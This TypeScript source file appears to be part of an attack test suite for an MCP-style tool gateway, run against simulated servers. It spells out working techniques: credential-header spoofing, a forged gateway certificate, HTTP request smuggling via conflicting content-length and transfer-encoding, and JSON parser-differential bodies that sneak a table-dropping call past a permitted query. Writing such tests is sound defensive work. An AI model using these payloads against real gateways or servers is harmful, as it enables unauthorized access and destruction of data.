import { mint } from '../../journeys/mint.ts';
import { generateKeyPairSync } from 'node:crypto';
import { modernRequest } from '../../journeys/raw-agent.ts';
import { crownCalls, roles } from '../honest-tools.ts';
import { namedByClient } from '../range-server.ts';
import type { Gate, Stage } from '../stage.ts';
import { type Family, outcome, turn } from './family.ts';
import { requestOctets, sendOctets } from './octets.ts';
import { type Presented, steal } from './replays.ts';

/** Headers that some server somewhere takes for a credential, or for who is asking. */
const named: readonly string[] = [
  'x-upstream-authorization',
  'x-api-key',
  'api-key',
  'proxy-authorization',
  'x-forwarded-user',
  'x-forwarded-access-token',
  'x-remote-user',
  'x-auth-token',
  'x-access-token',
  'x-amz-security-token',
  'x-goog-api-key',
  'x-vault-token',
  'x-github-token',
  'x-original-authorization',
  'x-mcp-authorization',
  'x-client-cert',
  'x-ssl-client-s-dn',
  'forwarded',
  'cookie',
  'x-tenant-id',
  'mcp-init-host',
  'router-key',
];

const confusedDeputy: Family = {
  id: 'A10',
  title: 'confused deputy: a header of the client names the credential or the caller',
  success: 'a server gets what the client named',
  async attack(stage, random, variant) {
    const effects = stage.begin(random);
    const role = random.pick(roles);
    const header = turn(named, variant);
    const at = await readerAt(stage, 'db');
    const { headers, body } = modernRequest(1, 'tools/call', {
      name: 'query',
      arguments: { sql: `select 1 from ${role}` },
    });
    const all = { ...headers, authorization: at.authorization, [header]: namedByClient };
    await sendOctets(at.url, at.shown, requestOctets(at.url, all, body));
    return outcome(effects.deputy > 0);
  },
};

/** One who may do one thing at one server, and nothing else. */
async function readerAt(
  { gate, servers }: Stage,
  role: 'db',
): Promise<{
  url: string;
  shown: Awaited<ReturnType<Gate['worker']>>['shown'] | null;
  authorization: string;
}> {
  if (!gate) return { url: servers[role].url, shown: null, authorization: servers[role].key };
  const reader = await gate.worker('reader');
  const url = gate.town.endpoint(role);
  return { url, shown: reader.shown, authorization: `Bearer ${await reader.token({ aud: url })}` };
}

type Way = (gate: Gate) => Promise<Presented['shown']>;

const around: readonly Way[] = [
  async (gate) => ({ ca: gate.town.deployment.authority.describe().roots }),
  async (gate) => (await gate.worker()).shown,
  async (gate) => await gate.town.issue('another', 'server'),
  async (gate) => {
    // A certificate with the name of the gateway, signed by whoever likes to.
    const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const signer = { key: privateKey, chain: '' };
    return await mint(gate.town, { name: 'gateway', kind: 'gateway', recorded: false, signer });
  },
];

const bypass: Family = {
  id: 'A16',
  title: 'past the gateway, with the key of the server known',
  success: 'a server reads out what is private',
  async attack(stage, random, variant) {
    const effects = stage.begin(random);
    const { gate, servers } = stage;
    const role = random.pick(roles.filter((one) => one in crownCalls));
    const { url, key: authorization } = servers[role];
    const shown = gate && (await turn(around, variant)(gate));
    await steal({ url, shown, authorization }, '', role);
    return outcome(effects.done.length > 0);
  },
};

const good = { name: 'query', arguments: { sql: 'select 1' } };
const bad = { name: 'drop_table', arguments: { table: 'salaries' } };
const revision = { 'mcp-protocol-version': '2026-07-28' };

/** The headers say what is permitted, the body what is not; or the other way round, or something in between. */
const mismatched: readonly ((authorization: string, url: string) => string)[] = [
  (authorization, url) => mixed(url, authorization, { 'mcp-name': 'query' }),
  (authorization, url) => mixed(url, authorization, { 'mcp-method': 'tools/list' }),
  (authorization, url) => mixed(url, authorization, { 'mcp-method': 'tools/list', 'mcp-name': 'query' }),
  (authorization, url) => mixed(url, authorization, { 'mcp-protocol-version': '2025-11-25' }),
  (authorization, url) => mixed(url, authorization, { 'mcp-name': '=?base64?cXVlcnk=?=' }),
  (authorization, url) => mixed(url, authorization, { 'mcp-name': 'query, drop_table' }),
  (authorization, url) => mixed(url, authorization, { 'mcp-name': 'QUERY' }),
  (authorization, url) => mixed(url, authorization, { 'x-http-method-override': 'GET' }),
  (authorization, url) => twice(url, authorization, 'mcp-name: query\r\nmcp-name: drop_table'),
  (authorization, url) => twice(url, authorization, 'mcp-name: drop_table\r\nMcp-Name: query'),
  (authorization, url) => hidden(url, authorization, ['transfer-encoding: chunked', 'content-length: 5']),
  (authorization, url) => hidden(url, authorization, ['content-length: 0', 'content-length: 4']),
  (authorization, url) => hidden(url, authorization, ['transfer-encoding : chunked', 'content-length: 0']),
  (authorization, url) => hidden(url, authorization, ['content-length: +0']),
  (authorization, url) => hidden(url, authorization, ['transfer-encoding: chunked, identity']),
];

function mixed(url: string, authorization: string, changed: Record<string, string>): string {
  const { headers, body } = modernRequest(1, 'tools/call', bad);
  return requestOctets(url, { ...headers, authorization, ...changed }, body);
}

function twice(url: string, authorization: string, lines: string): string {
  const { headers, body } = modernRequest(1, 'tools/call', bad);
  const { 'mcp-name': _, ...others } = headers;
  const octets = requestOctets(url, { ...others, authorization }, body);
  return octets.replace('content-length', `${lines}\r\ncontent-length`);
}

/** A request that nobody may make where only a mistaken reader finds it: behind one that is permitted. */
function hidden(url: string, authorization: string, framing: readonly string[]): string {
  const { headers, body } = modernRequest(1, 'tools/call', good);
  const inner = mixed(url, authorization, {});
  const [head = ''] = requestOctets(url, { ...headers, authorization }, body).split('\r\ncontent-length');
  return `${head}\r\n${framing.join('\r\n')}\r\n\r\n0\r\n\r\n${inner}`;
}

const desync: Family = {
  id: 'A17',
  title: 'headers and body that disagree, requests within requests',
  success: 'a server does what the caller may not',
  async attack(stage, random, variant) {
    const effects = stage.begin(random);
    // A server that takes what it gets, as many do; the official SDK refuses some of it by itself.
    stage.servers.db.mischief = {};
    const { url, shown, authorization } = await readerAt(stage, 'db');
    await sendOctets(url, shown, turn(mismatched, variant)(authorization, url));
    return outcome(effects.destroyed().length > 0);
  },
};

const meta = `"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{}}`;
const drop = '"name":"drop_table","arguments":{"table":"salaries"}';

/** Bodies of which one reader makes a query and another one something else. */
const ambiguous: readonly string[] = [
  body(`"method":"tools/call","params":{"name":"query","arguments":{"sql":"1"},${drop},${meta}}`),
  body(
    `"method":"tools/call","params":{"name":"query","arguments":{"sql":"1"},${meta}},"params":{${drop},${meta}}`,
  ),
  body(`"method":"tools/list","method":"tools/call","params":{${drop},${meta}}`),
  body(`"method":"tools/call","params":{"Name":"query",${drop},${meta}}`),
  body(`"Method":"tools/list","method":"tools/call","params":{${drop},${meta}}`),
  body(`"method":"tools/call","params":{"n\\u0061me":"query",${drop},${meta}}`),
  body(`"method":"tools/call","params":{"name":"query",${drop},${meta}},"PARAMS":{}`),
  body(`"method":"tools/call","params":{${drop},${meta}}`).replace('{', '\ufeff{'),
  `${body(`"method":"tools/list","params":{${meta}}`)}${body(`"method":"tools/call","params":{${drop},${meta}}`)}`,
  `[${body(`"method":"tools/list","params":{${meta}}`)},${body(`"method":"tools/call","params":{${drop},${meta}}`)}]`,
  body(
    `"method":"tools/call","params":{"name":"query\\u0000","name":"drop_table","arguments":{"table":"t"},${meta}}`,
  ),
  body(`"method":"tools/call","params":{"__proto__":{"name":"query"},${drop},${meta}}`),
  body(`"method":"tools/call","params":{${drop},"_meta":{"progressToken":1},${meta}}`),
];

function body(members: string): string {
  return `{"jsonrpc":"2.0","id":1,${members}}`;
}

const differentials: Family = {
  id: 'A18',
  title: 'bodies that two readers read differently',
  success: 'a server does what the caller may not',
  async attack(stage, random, variant) {
    const effects = stage.begin(random);
    // A server that takes what it gets, as many do; the official SDK refuses some of it by itself.
    stage.servers.db.mischief = {};
    const { url, shown, authorization } = await readerAt(stage, 'db');
    const legacy = Math.floor(variant / ambiguous.length) % 2 === 1;
    const headers = {
      'content-type': 'application/json',
      accept: 'application/json, text/event-stream',
      authorization,
      ...(legacy
        ? { 'mcp-protocol-version': '2025-03-26' }
        : { ...revision, 'mcp-method': 'tools/call', 'mcp-name': turn(['query', 'drop_table'], variant) }),
    };
    await sendOctets(url, shown, requestOctets(url, headers, turn(ambiguous, variant)));
    return outcome(effects.destroyed().length > 0);
  },
};

export const wireFamilies: readonly Family[] = [confusedDeputy, bypass, desync, differentials];
